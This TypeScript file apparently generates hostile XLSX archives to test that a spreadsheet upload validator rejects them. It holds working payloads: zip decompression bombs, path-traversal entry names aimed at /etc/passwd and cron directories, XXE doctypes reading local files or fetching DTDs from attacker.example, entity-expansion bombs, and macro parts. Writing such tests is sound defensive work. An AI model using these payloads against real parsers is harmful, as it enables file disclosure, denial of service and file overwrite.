import { deflateRawSync } from 'node:zlib';
import type { HostileKind, Random } from './hostile-kind.ts';
import { defineRejectedFile } from './hostile-kind.ts';
import { toCells, buildGoodLines, headers } from './lines.ts';
import type { ZipPart } from './workbook.ts';
import { buildSheetXml, buildStringsXml, buildTextRows, buildWorkbookParts, buildZip } from './workbook.ts';

const rows = buildTextRows([headers, ...buildGoodLines(5).map(toCells)]);
const buildGoodParts = () =>
  buildWorkbookParts({ sheets: [{ name: 'Returns', xml: buildSheetXml(rows) }], strings: buildStringsXml(['x']) });

const partNames = [
  '[Content_Types].xml',
  '_rels/.rels',
  'xl/workbook.xml',
  'xl/_rels/workbook.xml.rels',
  'xl/styles.xml',
  'xl/sharedStrings.xml',
  'xl/worksheets/sheet1.xml',
] as const;

const changeParts = (name: string, change: (part: ZipPart) => ZipPart) =>
  buildGoodParts().map((part) => (part.name === name ? change(part) : part));

/** Defines a kind of archive in which a random part has a wrong field. */
const defineWrongField = (
  name: string,
  codes: Parameters<typeof defineRejectedFile>[1],
  override: (random: Random, part: ZipPart) => Partial<ZipPart>,
): HostileKind =>
  defineRejectedFile(name, codes, (random) =>
    buildZip(changeParts(random.pick(partNames), (part) => ({ ...part, ...override(random, part) }))),
  );

/** Compressed content of 64 KB that decompresses to 64 MB. */
const compressedBomb = deflateRawSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
const bombSize = 64 * 1024 * 1024;

const changeContent = (name: string, change: (text: string) => string) =>
  buildZip(changeParts(name, (part) => ({ ...part, content: change(String(part.content)) })));

const insertAfterXmlDeclaration = (declaration: string) => (text: string) =>
  text.replace(/(<\?xml[^>]*\?>\s*)/, `$1${declaration}`);

const pickDoctype = (random: Random) =>
  random.pick([
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
  ]);

/** Archives with wrong fields, decompression bombs, hidden content or external references. */
export const hostileArchives: readonly HostileKind[] = [
  defineWrongField('a bomb with its true size', 'FileTooLarge', () => ({ compressed: compressedBomb, size: bombSize })),
  defineWrongField('a bomb with a small declared size', 'FileDamaged', (random) => ({
    compressed: compressedBomb,
    size: 1 + random.nextInt(100_000),
  })),
  defineRejectedFile('bombs in unused parts', 'FileTooLarge', (random) =>
    buildZip([
      ...buildGoodParts(),
      ...Array.from({ length: 2 + random.nextInt(5) }, (_, index) => ({
        name: `xl/media/image${index}.png`,
        content: '',
        compressed: compressedBomb,
        size: bombSize / 2,
      })),
    ]),
  ),
  defineWrongField('a slightly too large declared size', 'FileDamaged', (random, part) => ({
    size: part.content.length + 1000 + random.nextInt(1000),
  })),
  defineWrongField('a wrong checksum', 'FileDamaged', (random) => ({ checksum: random.nextInt(2 ** 31) })),
  defineWrongField('compressed bytes beyond the end', 'FileDamaged', (random) => ({
    compressedSize: 10_000_000 + random.nextInt(1_000_000_000),
  })),
  defineWrongField('an unsupported compression method', 'FileDamaged', (random) => ({
    method: random.pick([1, 6, 9, 12, 14, 93, 99]),
  })),
  defineRejectedFile('thousands of parts', 'FileTooLarge', (random) =>
    buildZip([
      ...buildGoodParts(),
      ...Array.from({ length: 400 + random.nextInt(2000) }, (_, index) => ({ name: `xl/x${index}.xml`, content: '' })),
    ]),
  ),
  defineRejectedFile('a too large entry count', ['FileDamaged', 'FileTooLarge'], (random) =>
    buildZip(buildGoodParts(), { entries: 8 + random.nextInt(60_000) }),
  ),
  defineRejectedFile('a duplicate part', 'FileDamaged', (random) => {
    const name = random.pick(partNames);
    return buildZip([...buildGoodParts(), { name: random.pick([name, name.toUpperCase()]), content: '<a/>' }]);
  }),
  defineRejectedFile('a path outside the archive', 'FileDamaged', (random) =>
    buildZip([
      ...buildGoodParts(),
      {
        name: random.pick(['../../etc/cron.d/x', '/etc/passwd', 'xl/../../x', 'C:/x', String.raw`xl\..\..\x`]),
        content: 'x',
      },
    ]),
  ),
  defineRejectedFile('a document type', 'FileDamaged', (random) =>
    changeContent(random.pick(partNames), insertAfterXmlDeclaration(pickDoctype(random))),
  ),
  defineRejectedFile('an undeclared entity', 'FileDamaged', (random) =>
    changeContent(random.pick(partNames), (text) => text.replace(/<\/\w+>\s*$/, (end) => `&xxe;${end}`)),
  ),
  defineWrongField('a part in UTF-16, with a document type', 'FileDamaged', (random, part) => ({
    content: Buffer.from(`\uFEFF${insertAfterXmlDeclaration(pickDoctype(random))(String(part.content))}`, 'utf16le'),
  })),
  defineRejectedFile('macros', 'FileWithMacros', (random) =>
    random.pick([
      buildZip([...buildGoodParts(), { name: 'xl/vbaProject.bin', content: random.bytes(500) }]),
      buildZip([...buildGoodParts(), { name: 'XL/VBAPROJECT.BIN', content: random.bytes(500) }]),
      buildZip([...buildGoodParts(), { name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
      changeContent('[Content_Types].xml', (text) =>
        text.replace(
          '</Types>',
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        ),
      ),
    ]),
  ),
  defineWrongField('an encrypted part', 'FilePasswordProtected', () => ({ flags: 1 })),
  defineRejectedFile('an archive that is not a workbook', 'FileWrongType', (random) =>
    buildZip(
      random.pick<ZipPart[]>([
        [
          { name: '[Content_Types].xml', content: '<Types/>' },
          {
            name: '_rels/.rels',
            content:
              '<Relationships><Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
          },
          { name: 'word/document.xml', content: '<w:document xmlns:w="w"/>' },
        ],
        [{ name: 'return.csv', content: headers.join(';') }],
        [],
      ]),
    ),
  ),
  defineRejectedFile('a missing sheet part', 'FileDamaged', () =>
    buildZip(buildGoodParts().filter(({ name }) => name !== 'xl/worksheets/sheet1.xml')),
  ),
];
